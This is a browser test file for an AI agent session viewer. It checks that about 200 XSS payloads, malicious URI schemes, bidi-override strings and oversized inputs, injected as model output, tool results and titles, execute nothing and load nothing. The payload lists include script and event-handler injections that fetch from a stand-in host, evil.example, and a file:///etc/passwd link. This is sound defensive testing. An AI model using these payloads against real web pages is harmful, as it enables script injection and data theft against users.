import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { EventDraft } from '../../src/model/events/event.ts'
import { TurnId } from '../../src/model/ids.ts'
import { CANARY_KEY } from '../support/host/canary.ts'
import { freshFolder } from '../support/host/folder.ts'
import { BUILT_APP } from '../support/http/built-app.ts'
import { localServer } from '../support/http/local-server.ts'
import { newSession, turn } from '../support/http/stream-client.ts'
import { sseOf } from '../support/providers/vendor-answer.ts'
import { scriptedServer } from '../support/providers/vendor-server.ts'
import { writeLog } from '../support/session/write-log.ts'
import { appTab, connected, IS_WIDE, useBrowser } from './app-tab.ts'

useBrowser()

const CODE = 'window.__ran = true; fetch("https://evil.example/x")'
const ADDRESS = 'https://evil.example/x'

/** Every attack in the forms that reach a page: Markdown, HTML, SVG, addresses, direction of text, and sizes. */
const ATTACKS: readonly string[] = [
  `<script>${CODE}</script>`,
  `<img src=x onerror='${CODE}'>`,
  `<img src="${ADDRESS}">`,
  `<svg onload='${CODE}'><script>${CODE}</script></svg>`,
  `<svg><a xlink:href="javascript:${CODE}"><text>x</text></a></svg>`,
  `<iframe src="${ADDRESS}"></iframe>`,
  `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
  `<object data="${ADDRESS}"></object>`,
  `<embed src="${ADDRESS}">`,
  `<link rel=stylesheet href="${ADDRESS}">`,
  `<style>@import "${ADDRESS}";*{display:none}</style>`,
  `<base href="${ADDRESS}">`,
  `<meta http-equiv=refresh content="0;url=${ADDRESS}">`,
  `<form action="${ADDRESS}"><input autofocus onfocus='${CODE}'></form>`,
  `<details open ontoggle='${CODE}'>`,
  `<video src="${ADDRESS}" onerror='${CODE}'></video>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror='${CODE}'></style></mglyph></math>`,
  `<a href="javascript:${CODE}">link</a>`,
  `[link](javascript:${encodeURIComponent(CODE)})`,
  `[link](JaVaScRiPt:${encodeURIComponent(CODE)})`,
  `[link](&#106;avascript:alert(1))`,
  `[link](java\tscript:alert(1))`,
  `[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[link](vbscript:msgbox)`,
  `[link](file:///etc/passwd)`,
  `[link](blob:${ADDRESS})`,
  `[https://good.example](${ADDRESS})`,
  `![picture](${ADDRESS})`,
  `![picture](javascript:alert(1))`,
  `![picture](data:image/svg+xml,<svg onload=alert(1)>)`,
  `[ref]\n\n[ref]: javascript:alert(1)`,
  `<${ADDRESS}>`,
  `<javascript:alert(1)>`,
  '```html\n<script>window.__ran = true</script>\n```',
  '```\n</code></pre><script>window.__ran = true</script>\n```',
  '```"><script>window.__ran=true</script>\ncode\n```',
  `\`</code><script>${CODE}</script>\``,
  `| a |\n|---|\n| <img src=x onerror='${CODE}'> |`,
  `# <script>${CODE}</script>`,
  `> <script>${CODE}</script>`,
  `- <script>${CODE}</script>`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `\u202etxt.exe\u202c and \u2066more\u2069`,
  `\u0000\u001b[31m\u0007\u009b`,
  `\ud800 lone \udc00`,
  '\u0301'.repeat(5_000),
  `${'\u202e'.repeat(2_000)}x`,
  '<b>'.repeat(5_000),
  '['.repeat(10_000),
  `${'*'.repeat(10_000)}a${'*'.repeat(10_000)}`,
  `${'> '.repeat(3_000)}deep`,
  `${'- '.repeat(3_000)}deep`,
  `${'|a'.repeat(2_000)}\n${'|-'.repeat(2_000)}\n|x`,
  'x'.repeat(60_000),
]

/** Addresses that would run something or leave, as a lexer, a browser or a careless check may read them. */
const ADDRESSES: readonly string[] = [
  'javascript:window.__ran=true',
  'JAVASCRIPT:window.__ran=true',
  ' javascript:window.__ran=true',
  'java\nscript:window.__ran=true',
  'java&Tab;script:window.__ran=true',
  'javascript&colon;window.__ran=true',
  '&#x6A;avascript:window.__ran=true',
  '\u0001javascript:window.__ran=true',
  'javascript://evil.example/%0Awindow.__ran=true',
  'data:text/html,<script>window.__ran=true</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'vbscript:window.__ran=true',
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example/x',
  'ms-appinstaller:?source=https://evil.example/x',
  'https://evil.example/\u202egnp.exe',
  'https://good.example@evil.example/x',
  '//evil.example/x',
]

/** Where Markdown, HTML or SVG would use an address. */
const PLACES: readonly ((address: string) => string)[] = [
  (address) => `[link](${address})`,
  (address) => `[link](<${address}> "title")`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[a][b]\n\n[b]: ${address}`,
  (address) => `[![picture](${address})](${address})`,
  (address) => `<a href="${address}">link</a>`,
  (address) => `<img src='${address}' srcset='${address} 2x'>`,
  (address) => `<svg><image href="${address}"/><use xlink:href="${address}"/></svg>`,
]

/** Several in one Session: each in a place of its own. */
const ADDRESSED: readonly string[] = ADDRESSES.map((address) =>
  PLACES.map((place) => place(address)).join('\n\n'),
)

const TURN = TurnId.parse('trn_01kg8m2q3r4s5t6v7w8x9y0z12')

function sessionWith(attack: string): EventDraft[] {
  const own = { turn_id: TURN }
  const title = attack.slice(0, 2_000).toWellFormed()
  return [
    {
      type: 'session_started',
      data: {
        workspace: '/w',
        provider: 'rehearsal',
        model: attack.slice(0, 200).toWellFormed(),
        mode: 'build',
        permission_mode: 'ask',
        presenter: 'cli',
        harness_version: '0',
      },
    },
    { type: 'session_settings', data: { title } },
    { type: 'turn_started', data: { source: { presenter: 'cli' } }, ...own },
    { type: 'user_message', data: { text: attack.toWellFormed(), prompt_mode: 'string' }, ...own },
    { type: 'notice', data: { code: 'test', text: title }, ...own },
    { type: 'assistant_message', data: { text: attack.toWellFormed() }, ...own },
    {
      type: 'tool_call',
      data: { call_id: 'c1', name: title.slice(0, 64), arguments: title },
      ...own,
    },
    {
      type: 'tool_result',
      data: {
        call_id: 'c1',
        name: title.slice(0, 64),
        outcome: 'ok',
        output: attack.toWellFormed(),
        diff: `--- a/${title}\n+++ b/${title}\n@@ -1 +1 @@\n-${title}\n+${title}\n`,
        duration_ms: 1,
      },
      ...own,
    },
    { type: 'plan_updated', data: { entries: [{ content: title, status: 'pending' }] }, ...own },
    {
      type: 'turn_ended',
      data: {
        status: 'failed',
        error: { kind: 'internal', message: title, details: {}, next_actions: [] },
        usage_total: {
          input: 0,
          cached_read: 0,
          cache_write: 0,
          output: 0,
          reasoning: 0,
          calls: 0,
        },
      },
      ...own,
    },
  ]
}

interface PageState {
  readonly ran: boolean
  readonly wide: boolean
  readonly elements: number
  readonly links: readonly string[]
  readonly pictures: number
}

/** What an attack would have changed. */
const STATE = `({
  ran: '__ran' in window,
  wide: ${IS_WIDE},
  elements: document.querySelectorAll(
    'script:not([src]), iframe, object, embed, base, form[action], video, svg, math, style',
  ).length,
  links: [...document.querySelectorAll('.turn a')].map((link) => link.getAttribute('href').split(':')[0]),
  pictures: document.querySelectorAll('.turn img').length,
})`

test('200 hostile strings from a model, tools, titles and errors run nothing, send nothing, and keep the layout', async () => {
  const root = await freshFolder()
  const server = await localServer({ root, app: BUILT_APP })
  await newSession(server)
  const { page, trouble } = await appTab(server)
  expect(ATTACKS.length + ADDRESSES.length * PLACES.length).toBeGreaterThanOrEqual(200)
  for (const [at, attack] of [...ATTACKS, ...ADDRESSED].entries()) {
    const id = await writeLog(root, sessionWith(attack))
    await page.goto(`${server.origin}/s/${id}`)
    await connected(page).catch((error: unknown) => {
      throw new Error(`attack ${at}: ${String(error)}`, { cause: error })
    })
    await page.locator('.turn-end').waitFor({ state: 'attached' })
    await page.evaluate(
      `document.querySelectorAll('details').forEach((one) => one.setAttribute('open', ''))`,
    )
    const found = (await page.evaluate(STATE)) as PageState
    expect([at, found.ran, found.wide, found.elements, found.pictures]).toEqual([
      at,
      false,
      false,
      0,
      0,
    ])
    expect(found.links.filter((scheme) => !['https', 'http', 'mailto'].includes(scheme))).toEqual(
      [],
    )
  }
  expect(trouble).toEqual([])
})

test('names of files and lines of 5 MB are text, and the page stays usable', async () => {
  const server = await localServer({ app: BUILT_APP })
  const id = await newSession(server)
  const names = ['<img src=x onerror=alert(1)>.txt', '"\'`&.txt', `${'a'.repeat(200)}.txt`]
  const paths = await Promise.all(
    names.map(async (name, at) => {
      const path = join(server.root, name)
      await writeFile(path, `note ${at}`)
      return path
    }),
  )
  await (
    await turn(server, id, 'What is in them?', { attachments: paths })
  ).ended
  await writeFile(join(server.workspace, 'long.txt'), 'x'.repeat(5 * 1024 * 1024))
  await (
    await turn(server, id, 'read long.txt')
  ).ended
  const { page, trouble } = await appTab(server, { path: `/s/${id}` })
  await connected(page)
  await page.locator('.turn-end').nth(1).waitFor({ state: 'attached' })
  expect(await page.locator('.resource .name').allTextContents()).toEqual(names)
  await page.locator('.composer textarea').fill('Still usable')
  expect(await page.evaluate(IS_WIDE)).toBe(false)
  expect(trouble).toEqual([])
})

test('a line of 5 MB that a model streams is shown, and the page stays usable', async () => {
  const line = `<img src=x onerror="${CODE}"> ${'x'.repeat(1024)} `
  const text = line.repeat(Math.ceil((5 * 1024 * 1024) / line.length))
  const vendor = await scriptedServer(() => ({ body: sseOf('messages', { text }) }))
  const env = {
    ANTHROPIC_API_KEY: CANARY_KEY,
    ANTHROPIC_BASE_URL: vendor.baseUrl('messages'),
    HAWSER_PROVIDER: 'anthropic',
  }
  const server = await localServer({ app: BUILT_APP, env })
  const id = await newSession(server)
  const { page, trouble } = await appTab(server, { path: `/s/${id}` })
  await connected(page)
  await page.locator('.composer textarea').fill('Say a long line')
  await page.locator('.composer textarea').press('Enter')
  await page.locator('.turn-end').waitFor({ state: 'attached' })
  await page.reload()
  await page.locator('.turn-end').waitFor({ state: 'attached' })
  await page.locator('.composer textarea').fill('Still usable')
  expect(await page.locator('.answer').textContent()).toContain('more characters')
  const { ran, wide, elements, pictures } = (await page.evaluate(STATE)) as PageState
  expect([ran, wide, elements, pictures]).toEqual([false, false, 0, 0])
  await vendor.close()
  expect(trouble).toEqual([])
})
